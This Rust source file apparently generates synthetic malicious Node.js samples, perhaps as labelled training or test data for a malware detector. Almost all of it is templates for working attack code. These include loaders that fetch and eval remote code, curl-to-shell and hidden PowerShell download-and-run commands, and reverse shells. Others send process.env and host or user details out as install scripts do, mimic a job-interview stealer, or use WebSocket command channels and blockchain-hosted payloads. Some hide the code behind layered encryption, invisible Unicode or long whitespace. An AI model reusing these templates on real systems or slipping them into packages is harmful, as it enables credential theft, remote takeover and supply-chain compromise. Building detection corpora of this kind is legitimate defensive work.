//! JavaScript for node: packages that steal, thieves of job interviews, shells that connect back.

use super::super::{base64, gzip, hex, keyed, put};
use super::cipher::{aes_cbc, bytes};
use super::javascript::{address, hide, invisible, junk};
use super::{Dice, Parts, Truth, agent, veiled};
use std::fmt::Write;

/// node's own client.
pub(super) fn get(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = junk(dice);
    let url = truth.url(dice, &["", ".js", ".exe", ".txt"]);
    let word = address(dice, &url, &mut out, true);
    let scheme = Parts::of(&url).scheme;
    let (name, file) = (veiled(dice), dice.name());
    let form = dice.pick(&[
        "const @NAME@ = require('@SCHEME@');\n@NAME@.get(@URL@, (res) => {\n  let d = '';\n  res.on('data', (c) => d += c);\n  res.on('end', () => { try { eval(d); } catch (e) {} });\n}).on('error', () => {});\n",
        "const fs = require('fs'), path = require('path'), os = require('os');\nconst { spawn } = require('child_process');\nconst @NAME@ = path.join(os.tmpdir(), '@FILE@');\nconst out = fs.createWriteStream(@NAME@);\nrequire('@SCHEME@').get(@URL@, { headers: { 'User-Agent': '@AGENT@' } }, r => {\n  r.pipe(out);\n  out.on('finish', () => out.close(() => spawn(@NAME@, [], { detached: true, stdio: 'ignore' }).unref()));\n}).on('error', e => fs.unlink(@NAME@, () => {}));\n",
        "(async () => {\n  const @NAME@ = await fetch(@URL@, { method: 'GET' });\n  const t = await @NAME@.text();\n  new Function('require', t)(require);\n})().catch(() => {});\n",
        "const @NAME@ = u => new Promise((ok, no) => require(u.startsWith('https') ? 'https' : 'http').get(u, r => {\n  const parts = [];\n  r.on('data', x => parts.push(x)).on('end', () => ok(Buffer.concat(parts).toString()));\n}).on('error', no));\n@NAME@(@URL@).then(c => (0, eval)(c)).catch(function () {});\n",
    ]);
    out + &put(
        form,
        &[
            ("NAME", &name),
            ("SCHEME", &scheme),
            ("URL", &word),
            ("FILE", &file),
            ("AGENT", agent(dice)),
        ],
    )
}

/// Clients that are modules.
pub(super) fn module(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = junk(dice);
    let url = truth.url(dice, &["", "/api", ".json"]);
    let word = address(dice, &url, &mut out, true);
    let name = veiled(dice);
    let key = dice.name();
    let form = dice.pick(&[
        "const axios = require('axios');\n(async () => {\n  try {\n    const @NAME@ = (await axios.get(@URL@, { headers: { 'x-secret-key': '@KEY@' } })).data;\n    const handler = new Function.constructor('require', @NAME@);\n    handler(require);\n  } catch (e) {}\n})();\n",
        "const @NAME@ = require('axios');\n@NAME@.post(@URL@, { ...process.env }, { headers: { 'x-app-request': '@KEY@' } }).then(r => eval(r.data)).catch(() => {});\n",
        "const request = require('request');\nconst @NAME@ = { url: @URL@, headers: { 'User-Agent': '@AGENT@' } };\nrequest(@NAME@, (err, res, body) => { if (!err) { eval(body); } });\n",
        "var @NAME@ = require('node-fetch');\n@NAME@(@URL@).then(function (r) { return r.text(); }).then(function (t) { eval(t); }).catch(function () {});\n",
        "const axios = require('axios').default;\naxios({ method: 'get', url: @URL@, responseType: 'stream' }).then(res => res.data.pipe(require('fs').createWriteStream(require('os').tmpdir() + '/@KEY@'))).catch(() => {});\n",
    ]);
    out + &put(form, &[("NAME", &name), ("URL", &word), ("KEY", &key), ("AGENT", agent(dice))])
}

/// A command of the machine.
pub(super) fn process(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = junk(dice);
    let url = truth.url(dice, &["", ".sh", ".ps1"]);
    let word = address(dice, &url, &mut out, true);
    let (name, file) = (veiled(dice), dice.name());
    let form = dice.pick(&[
        "const { exec } = require('child_process');\nconst @NAME@ = @URL@;\nif (process.platform === 'win32') {\n  exec(`powershell -w hidden -c \"iwr -Uri '${@NAME@}' -OutFile $env:TEMP/@FILE@.exe; start $env:TEMP/@FILE@.exe\"`);\n} else {\n  exec(`curl -fsSL '${@NAME@}' | sh`);\n}\n",
        "require('child_process').execSync('curl -s ' + @URL@ + ' -o /tmp/@FILE@ && chmod +x /tmp/@FILE@ && /tmp/@FILE@ &', { stdio: 'ignore' });\n",
        "const cp = require('child_process');\nconst @NAME@ = cp.spawn('sh', ['-c', 'wget -qO- ' + @URL@ + ' | bash'], { detached: true, stdio: 'ignore' });\n@NAME@.unref();\n",
        "var @NAME@ = require('child_' + 'process')['ex' + 'ec'];\n@NAME@('curl -sL \"' + @URL@ + '\" | node', function () {});\n",
        "const { execFile } = require('child_process');\nconst @NAME@ = process.platform == 'darwin' ? '/tmp/.@FILE@' : '/dev/shm/.@FILE@';\nexecFile('curl', ['-fsSL', @URL@, '-o', @NAME@], () => execFile('sh', [@NAME@], () => {}));\n",
    ]);
    out + &put(form, &[("NAME", &name), ("URL", &word), ("FILE", &file)])
}

/// Shells that connect back.
pub(super) fn socket(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = junk(dice);
    let (host, port) = truth.endpoint(dice);
    let host = if dice.chance(70) { hide(dice, &host, &mut out) } else { format!("\"{host}\"") };
    let (name, number) = (veiled(dice), veiled(dice));
    let form = dice.pick(&[
        "(function(){\n    var net = require(\"net\"),\n        cp = require(\"child_process\"),\n        sh = cp.spawn(\"sh\", []);\n    var client = new net.Socket();\n    client.on('error', function () { sh.kill(); });\n    client.connect(@PORT@, @HOST@, function(){\n        client.pipe(sh.stdin);\n        sh.stdout.pipe(client);\n        sh.stderr.pipe(client);\n    });\n    return /a/;\n})();\n",
        "const net = require('net');\nconst @NAME@ = @HOST@, @NUMBER@ = @PORT@;\nfunction link() {\n  const s = net.createConnection({ host: @NAME@, port: @NUMBER@ }, () => s.write(require('os').hostname() + '\\n'));\n  s.on('data', d => require('child_process').exec(d.toString(), (e, o, r) => s.write(o + r)));\n  s.on('error', () => {});\n}\nlink();\n",
        "var @NAME@ = @HOST@;\nvar s = require('net').connect(@PORT@, @NAME@);\ns.on('error', function () {});\nvar p = require('child_process').spawn('/bin/sh', ['-i']);\ns.pipe(p.stdin); p.stdout.pipe(s); p.stderr.pipe(s);\ns.on('close', function () { p.kill(); });\n",
    ]);
    out + &put(
        form,
        &[("PORT", &port.to_string()), ("HOST", &host), ("NAME", &name), ("NUMBER", &number)],
    )
}

/// What the scripts of packages send home when they are installed.
pub(super) fn environment(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = junk(dice);
    let url = truth.url(dice, &["", "/collect", "/api/v2"]);
    let parts = Parts::of(&url);
    let host = if dice.chance(60) {
        hide(dice, &parts.host, &mut out)
    } else {
        format!("\"{}\"", parts.host)
    };
    let port = parts.port.map_or(String::new(), |it| format!("  port: {it},\n"));
    let name = veiled(dice);
    out + &put(
        dice.pick(&[
            "const os = require(\"os\");\nconst querystring = require(\"querystring\");\nconst @NAME@ = require(\"@SCHEME@\");\nconst trackingData = JSON.stringify({\n  p: 'internal-utils',\n  c: __dirname,\n  hd: os.homedir(),\n  hn: os.hostname(),\n  un: os.userInfo().username,\n  dns: require('dns').getServers().length,\n});\nvar postData = querystring.stringify({ msg: trackingData });\nvar options = {\n  hostname: @HOST@,\n@PORT@  path: \"@PATH@\",\n  method: \"POST\",\n  headers: {\n    \"Content-Type\": \"application/x-www-form-urlencoded\",\n    \"Content-Length\": postData.length,\n  },\n};\nvar req = @NAME@.request(options, (res) => {\n  res.on(\"data\", (d) => {});\n});\nreq.on(\"error\", (e) => {});\nreq.write(postData);\nreq.end();\n",
            "const data = Buffer.from(JSON.stringify(process.env)).toString('base64');\nconst @NAME@ = require('@SCHEME@').request({\n  method: 'POST',\n  host: @HOST@,\n@PORT@  path: '@PATH@',\n  headers: { 'User-Agent': '@AGENT@', 'Content-Length': data.length }\n}, r => r.resume());\n@NAME@.on('error', () => process.exit(0));\n@NAME@.end(data);\n",
        ]),
        &[
            ("NAME", &name),
            ("SCHEME", &parts.scheme),
            ("HOST", &host),
            ("PORT", &port),
            ("PATH", &parts.path),
            ("AGENT", agent(dice)),
        ],
    )
}

/// Layers of encodings, each evaluated.
pub(super) fn layers(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut inner = match dice.below(4) {
        0 => get(dice, truth),
        1 => process(dice, truth),
        2 => socket(dice, truth),
        _ => request(dice, truth),
    };
    for _ in 0..1 + dice.below(2) {
        let name = veiled(dice);
        inner = match dice.below(5) {
            0 => format!(
                "eval(Buffer.from('{}', 'base64').toString('utf8'));\n",
                base64(inner.as_bytes())
            ),
            1 => format!(
                "const {name} = '{}';\nnew Function('require', 'process', '__dirname', Buffer.from({name}, 'hex').toString())(require, process, __dirname);\n",
                hex(inner.as_bytes())
            ),
            2 => format!(
                "eval(require('zlib').gunzipSync(Buffer.from(\"{}\", 'base64')).toString());\n",
                base64(&gzip(inner.as_bytes()))
            ),
            3 => {
                let (key, start) = (bytes(dice, 32), bytes(dice, 16));
                format!(
                    "const {name} = require('crypto');\nconst d = {name}.createDecipheriv('aes-256-cbc', Buffer.from('{}', 'base64'), Buffer.from('{}', 'base64'));\neval(d.update('{}', 'base64', 'utf8') + d.final('utf8'));\n",
                    base64(&key),
                    base64(&start),
                    base64(&aes_cbc(inner.as_bytes(), &key, &start))
                )
            }
            _ => {
                let word = dice.name();
                format!(
                    "const {name} = Buffer.from('{}', 'base64');\nconst k = '{word}';\nfor (let i = 0; i < {name}.length; i++) {name}[i] ^= k.charCodeAt(i % k.length);\neval({name}.toString());\n",
                    base64(&keyed(&inner, &word))
                )
            }
        };
    }
    // Far to the right of a line that looks harmless.
    if dice.chance(30) {
        return format!(
            "module.exports = {{ version: '1.0.{}' }};{};{inner}",
            dice.below(20),
            " ".repeat(300)
        );
    }
    inner
}

/// The thief of job interviews: server, key and campaign are put together, then a file is fetched.
pub(super) fn interview(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = (dice.host(), 1224 + dice.below(3) as u16);
    let origin = format!("http://{host}:{port}");
    let (campaign, user) = (dice.name(), dice.below(900) + 10);
    truth.joined(&origin, &format!("/client/{user}/{campaign}"));
    truth.joined(&origin, "/uploads");
    let whole = base64(format!("http://{host}").as_bytes());
    let at = 4 + dice.below(whole.len() - 8);
    let (head, tail) = whole.split_at(at);
    put(
        "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst ex = require('child_process').exec;\nconst rq = require('request');\nconst hd = os.homedir(), hn = os.hostname(), pl = os.platform();\nconst t64 = 'base64', u8 = 'utf8';\nconst _d = s => Buffer.from(s, t64).toString(u8);\nlet hh;\nconst kk = '@TAIL@', jj = '@HEAD@';\nconst host = () => _d(jj + kk) + ':' + @PORT@;\nfunction up(data) {\n  const options = { url: host() + '/uploads', formData: { type: '@USER@', hid: '@USER@_' + hn, uts: Date.now().toString(), multi_file: data } };\n  try { rq.post(options, (e, r, b) => {}); } catch (e) {}\n}\nfunction get() {\n  const p = path.join(os.tmpdir(), '.npl');\n  rq.get(host() + '/client/@USER@/@CAMPAIGN@', (e, r, b) => {\n    if (e) return;\n    fs.writeFileSync(p, b);\n    ex(`python3 \"${p}\"`, () => {});\n  });\n}\nup('ready');\nget();\n",
        &[
            ("HEAD", head),
            ("TAIL", tail),
            ("PORT", &port.to_string()),
            ("USER", &user.to_string()),
            ("CAMPAIGN", &campaign),
        ],
    )
}

/// Over a WebSocket.
pub(super) fn web_socket(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = junk(dice);
    let parts = Parts::of(&dice.url(&["", "/ws", "/socket"]));
    let scheme = if parts.scheme == "https" { "wss" } else { "ws" };
    let port = parts.port.map_or(String::new(), |it| format!(":{it}"));
    let url = format!("{scheme}://{}{port}{}", parts.host, parts.path);
    truth.urls.insert(url.clone());
    let word = address(dice, &url, &mut out, true);
    let name = veiled(dice);
    let form = dice.pick(&[
        "const WebSocket = require('ws');\nconst @NAME@ = new WebSocket(@URL@);\n@NAME@.on('open', () => @NAME@.send(JSON.stringify({ t: 'hello', h: require('os').hostname() })));\n@NAME@.on('message', m => eval(m.toString()));\n@NAME@.on('error', () => {});\n",
        "const @NAME@ = require('ws');\nfunction start() {\n  const s = new @NAME@(@URL@, { headers: { 'User-Agent': '@AGENT@' }, rejectUnauthorized: false });\n  s.on('message', d => require('child_process').exec(String(d), (e, o) => s.send(o)));\n  s.on('error', () => {});\n  s.on('close', () => setTimeout(start, 5000));\n}\nstart();\n",
    ]);
    out + &put(form, &[("NAME", &name), ("URL", &word), ("AGENT", agent(dice))])
}

/// A request of which the URL is taken apart or put together.
pub(super) fn request(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = junk(dice);
    let url = truth.url(dice, &["", ".js", ".bin"]);
    let parts = Parts::of(&url);
    let origin = if dice.chance(70) {
        hide(dice, &parts.origin(), &mut out)
    } else {
        format!("'{}'", parts.origin())
    };
    let name = veiled(dice);
    let form = dice.pick(&[
        "const @NAME@ = new URL('@PATH@', @ORIGIN@);\nrequire('@SCHEME@').request(@NAME@, { method: 'POST' }, res => {\n  res.setEncoding('utf8');\n  let b = '';\n  res.on('data', c => { b += c; });\n  res.on('end', () => require('vm').runInThisContext(b));\n}).on('error', () => {}).end(JSON.stringify({ v: process.version }));\n",
        "const base = @ORIGIN@;\nlet @NAME@ = `${base}@PATH@`;\nfetch(@NAME@).then(r => r.arrayBuffer()).then(b => require('fs').writeFileSync(require('path').join(require('os').tmpdir(), 'n.node'), Buffer.from(b))).catch(() => {});\n",
        "const c2 = { u: @ORIGIN@, p: '@PATH@' };\nObject.freeze(c2);\nconst @NAME@ = require('@SCHEME@').get(c2.u.concat(c2.p), r => r.pipe(require('fs').createWriteStream(require('os').tmpdir() + '/u.js')));\n@NAME@.on('error', () => {});\n",
    ]);
    out + &put(
        form,
        &[("NAME", &name), ("PATH", &parts.path), ("ORIGIN", &origin), ("SCHEME", &parts.scheme)],
    )
}

/// A whole script that no editor shows.
pub(super) fn unseen(dice: &mut Dice, truth: &mut Truth) -> String {
    let inner = if dice.chance(50) { get(dice, truth) } else { module(dice, truth) };
    let name = veiled(dice);
    let mut out = junk(dice);
    let _ = writeln!(
        out,
        "const {name} = v => [...v].map(w => (w = w.codePointAt(0), w >= 0xFE00 && w <= 0xFE0F ? w - 0xFE00 : w >= 0xE0100 && w <= 0xE01EF ? w - 0xE0100 + 16 : null)).filter(n => n !== null);\neval(Buffer.from({name}(`{}`)).toString('utf-8'));",
        invisible(inner.as_bytes())
    );
    out
}

/// EtherHiding: the next stage is asked of a contract, at one node of the chain after the other.
pub(super) fn contract(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = junk(dice);
    let urls: Vec<String> =
        (0..1 + dice.below(3)).map(|_| truth.url(dice, &["", "/rpc", "/v1/mainnet"])).collect();
    let list: Vec<String> = urls
        .iter()
        .map(|url| if dice.chance(60) { hide(dice, url, &mut out) } else { format!("'{url}'") })
        .collect();
    let (name, contract) = (veiled(dice), hex(&bytes(dice, 20)));
    let form = dice.pick(&[
        "const @NAME@ = [@LIST@];\nconst call = { jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: '0x@CONTRACT@', data: '0x6d4ce63c' }, 'latest'] };\n(async () => {\n  for (const node of @NAME@) {\n    try {\n      const r = await fetch(node, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(call) });\n      const { result } = await r.json();\n      const code = Buffer.from(result.slice(130), 'hex').toString().replace(/\\0+$/, '');\n      eval(Buffer.from(code, 'base64').toString());\n      break;\n    } catch (e) {}\n  }\n})();\n",
        "const axios = require('axios');\nasync function load(u) {\n  const { data } = await axios.post(u, { jsonrpc: '2.0', id: 56, method: 'eth_call', params: [{ to: '0x@CONTRACT@', data: '0x2cae8ae4' }, 'latest'] });\n  return Buffer.from(data.result.slice(2), 'hex').toString();\n}\nconst @NAME@ = [@LIST@];\n@NAME@.reduce((p, u) => p.catch(() => load(u)), Promise.reject()).then(c => new Function('require', c)(require)).catch(() => {});\n",
    ]);
    out + &put(form, &[("NAME", &name), ("LIST", &list.join(", ")), ("CONTRACT", &contract)])
}
